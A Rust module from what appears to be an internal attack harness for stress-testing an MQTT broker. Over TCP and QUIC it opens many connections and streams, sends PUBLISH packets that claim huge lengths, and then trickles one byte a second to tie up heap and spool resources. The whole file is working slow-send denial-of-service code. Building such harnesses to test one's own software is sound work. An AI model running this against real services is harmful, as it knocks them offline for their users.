//! Packets that never end.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use braid_proto::stream::StreamKey;
use braid_transport::Dir;
use tokio::time::sleep;

use crate::attacker::Attacker;
use crate::packets::{Connect, Publish};
use crate::quic::QuicClient;
use crate::stream::RawClient;

/// Clients over TCP: half of them with packets that go to a file, half with packets that stay in the heap.
pub(crate) const CLIENTS: usize = 200;
/// Clients over QUIC, each with [`STREAMS`] incomplete packets.
pub(crate) const QUIC_CLIENTS: usize = 2;
/// Default of `limits.streams`.
pub(crate) const STREAMS: usize = 256;
/// Nearly the largest Remaining Length: the default of `mqtt.maximum_packet_size` counts the fixed header too.
const LARGEST: u32 = 268_435_000;
/// Below `spool.threshold`, whose default is 1 MiB.
const IN_HEAP: u32 = 1_000_000;
/// Packets that begin per second: what they hold is measured, not what it costs to receive them.
const RATE: f64 = 100.0;
/// Bytes that are sent at once of a packet in the heap.
const SENT: usize = 900_000;
/// Bytes that are sent at once of a packet in a file.
const SENT_TO_FILE: usize = 70_000;

/// A packet for client or stream `at` without its end.
fn beginning(at: usize) -> Vec<u8> {
    let topic = format!("half/{at}");
    let (claimed, sent) = if at.is_multiple_of(2) { (IN_HEAP, SENT) } else { (LARGEST, SENT_TO_FILE) };
    Publish::new(&topic, &vec![0; sent]).encode_claiming(claimed)
}

/// Half a packet on each of many connections, then a byte a second.
pub(crate) async fn over_tcp(attacker: Rc<Attacker>) {
    let send = |attacker: Rc<Attacker>, at: usize| async move {
        let mut client = RawClient::connect(&attacker, &Connect::new(&format!("half-{at}")).encode()).await?;
        attacker.pace(RATE).await;
        client.send(&beginning(at)).await?;
        attacker.count(1);
        loop {
            client.send(&[0]).await?;
            sleep(Duration::from_secs(1)).await;
        }
    };
    attacker.workers(CLIENTS, send).await;
}

/// Half a packet on each stream of a connection, then a byte a second on each.
pub(crate) async fn over_quic(attacker: Rc<Attacker>) {
    let send = |attacker: Rc<Attacker>, at: usize| async move {
        let mut client =
            QuicClient::connect(&attacker, &Connect::new(&format!("half-{at}")).encode()).await?;
        let mut streams: Vec<StreamKey> = Vec::new();
        for number in 0..STREAMS {
            attacker.pace(RATE).await;
            let stream = client.open(Dir::Bidi).await?;
            client.write(stream, &beginning(number)).await?;
            attacker.count(1);
            streams.push(stream);
        }
        loop {
            for stream in &streams {
                // A stream that the broker has ended is no end of the connection.
                match client.write(*stream, &[0]).await {
                    Err(error) if error.kind() != io::ErrorKind::NotConnected => return Err(error),
                    _ => {}
                }
            }
            client.linger(Duration::from_secs(1)).await?;
        }
    };
    attacker.workers(QUIC_CLIENTS, send).await;
}
